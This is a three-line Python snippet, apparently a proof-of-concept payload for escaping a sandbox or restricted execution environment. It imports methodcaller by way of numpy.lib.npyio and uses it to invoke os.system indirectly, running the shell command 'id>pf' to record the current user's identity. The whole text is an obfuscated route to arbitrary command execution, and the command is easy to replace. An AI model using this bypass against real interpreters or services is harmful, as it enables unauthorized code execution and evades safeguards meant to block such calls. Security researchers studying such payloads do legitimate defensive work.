import os
from numpy.lib.npyio import methodcaller
methodcaller("system", "id>pf")(os)
